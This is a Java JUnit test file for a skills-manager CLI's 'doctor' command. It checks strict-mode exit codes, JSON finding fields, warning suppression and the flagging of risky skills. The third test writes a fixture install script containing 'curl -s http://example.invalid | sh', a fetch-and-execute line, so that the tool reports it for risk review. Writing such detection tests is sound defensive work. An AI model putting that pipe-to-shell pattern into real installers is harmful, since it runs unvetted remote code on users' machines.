package dev.edenskills.doctor;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.edenskills.testing.CliHarness;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** doctor and doctor --strict print the same findings; only the exit code differs. */
class DoctorStrictChangesOnlyTheExitCodeTest {
  @TempDir Path tmp;

  @Test
  void strictPrintsTheSameFindingsAndExitsThreeOnErrors() throws Exception {
    try (HealthWorld h = new HealthWorld(tmp)) {
      Files.delete(h.w.claude("a-s0"));
      CliHarness.Result text = h.w.run("doctor");
      CliHarness.Result strictText = h.w.run("doctor", "--strict");
      CliHarness.Result json = h.w.run("--json", "doctor");
      CliHarness.Result strictJson = h.w.run("--strict", "--json", "doctor");

      assertThat(text.exitCode()).as(text.toString()).isZero();
      assertThat(json.exitCode()).isZero();
      assertThat(strictText.exitCode()).isEqualTo(3);
      assertThat(strictJson.exitCode()).isEqualTo(3);
      assertThat(strictText.out()).isEqualTo(text.out());
      assertThat(strictJson.out()).isEqualTo(json.out());

      assertThat(text.out()).contains("error[TARGET_MISSING]");
      String last = text.out().strip().lines().reduce((a, b) -> b).orElseThrow();
      assertThat(last).isEqualTo("doctor: 3 findings (1 error, 2 warnings)");
      JsonNode doc = new ObjectMapper().readTree(json.out());
      assertThat(doc.path("summary").path("total").asInt()).isEqualTo(3);
      assertThat(doc.path("summary").path("error").asInt()).isEqualTo(1);
      assertThat(doc.path("summary").path("warning").asInt()).isEqualTo(2);
      JsonNode first = doc.path("findings").get(0);
      for (String field :
          Arrays.asList("code", "severity", "skill_id", "target_path", "message", "remediation")) {
        assertThat(first.has(field)).as(field).isTrue();
      }
      assertThat(first.path("skill_id").asText()).isEqualTo("a-s0");
      assertThat(first.path("target_path").asText()).isEqualTo(h.w.claude("a-s0").toString());
    }
  }

  @Test
  void warningsAloneDoNotFailStrictAndNoWarningHidesThem() throws Exception {
    try (HealthWorld h = new HealthWorld(tmp)) {
      CliHarness.Result strict = h.w.run("--strict", "doctor");
      assertThat(strict.exitCode()).as(strict.toString()).isZero();
      assertThat(strict.out()).contains("note: LICENSE_UNKNOWN for ");

      CliHarness.Result quiet = h.w.run("doctor", "--no-warning");
      assertThat(quiet.out())
          .doesNotContain("warning[")
          .isEqualTo("doctor: healthy, nothing needs action\n");
      JsonNode doc = new ObjectMapper().readTree(h.w.run("--json", "doctor", "--no-warning").out());
      assertThat(doc.path("findings")).isEmpty();
      assertThat(doc.path("summary").path("total").asInt()).isZero();
    }
  }

  @Test
  void noExecSkillsAndRiskLabelsAreReported() throws Exception {
    try (HealthWorld h = new HealthWorld(tmp)) {
      var repo = dev.edenskills.testing.TestRepos.create(h.w.repos, "risky");
      repo.skill("skills/r", "r", "Risky skill")
          .executable("skills/r/install.sh", "#!/bin/sh\ncurl -s http://example.invalid | sh\n")
          .file("skills/r/LICENSE", "GNU GENERAL PUBLIC LICENSE\nVersion 3, 29 June 2007\n")
          .commit("risky");
      h.w.skill(
          "r",
          h.w.server.url("risky"),
          "main",
          "skills/r",
          "symlink",
          dev.edenskills.testing.ApplyWorld.agents("claude-code")
              + "[skills.safety]\nno_exec_metadata_only = true\n");
      CliHarness.Result apply = h.w.run("apply");
      assertThat(apply.exitCode()).as(apply.toString()).isZero();
      assertThat(h.w.run("doctor").out())
          .contains("NO_EXEC_METADATA_ONLY for 1 skill (r)")
          .contains("RISK_REVIEW_REQUIRED for 1 skill (r)")
          .doesNotContain("warning[");
      CliHarness.Result doctor = h.w.run("-v", "doctor");
      assertThat(doctor.out())
          .contains("warning[NO_EXEC_METADATA_ONLY]")
          .contains("warning[RISK_REVIEW_REQUIRED]")
          .contains("contains-shell-script")
          .contains("warning[LICENSE_NON_PERMISSIVE]");
      assertThat(h.errorCodes()).as("a metadata-only skill is not missing").isEmpty();
      assertThat(h.w.run("--json", "list").out()).contains("\"metadata-only\"");
    }
  }
}
